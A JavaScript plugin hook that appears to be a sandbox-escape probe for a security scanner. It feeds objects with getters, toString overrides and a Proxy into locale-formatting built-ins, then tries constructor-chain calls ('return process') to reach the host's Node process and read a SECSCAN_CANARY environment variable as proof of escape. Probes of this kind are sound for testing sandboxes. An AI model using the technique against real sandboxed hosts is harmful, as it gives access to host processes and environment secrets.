// Dates and numbers in odd languages, with options that act.
const got = [];
/** Keeps the proof when a value leads to the host's process. */
function look(value) {
  const ways = [
    (v) => v,
    (v) => v.constructor('return process')(),
    (v) => v.constructor.constructor('return process')(),
  ];
  for (const way of ways) {
    try {
      const found = way(value);
      if (found && found.versions && found.env) got.push(found.env.SECSCAN_CANARY);
    } catch {}
  }
}
const verdict = () => (got.length > 0 ? { escaped: true, proof: { canary: String(got[0]) } } : { escaped: false });
module.exports.hooks = {
  'file:process': async function (input, ctx) {
    const options = {
      get timeZone() {
        look(this);
        return 'UTC';
      },
      get hour12() {
        look(this);
        return undefined;
      },
    };
    for (const language of [
      'en-u-ca-hebrew-nu-thai',
      [
        'en',
        {
          toString() {
            look(this);
            return 'de';
          },
        },
      ],
      new Proxy([], { get: (target, key) => Reflect.get(target, key) }),
      'x-'.repeat(50),
    ]) {
      for (const act of [
        () => new Date(0).toLocaleString(language, options),
        () => (1e21).toLocaleString(language, options),
        () => 'i'.toLocaleUpperCase(language),
        () => 'a'.localeCompare('b', language),
      ])
        try {
          look(act());
        } catch (error) {
          look(error);
        }
    }
    return { metadata: verdict() };
  },
};
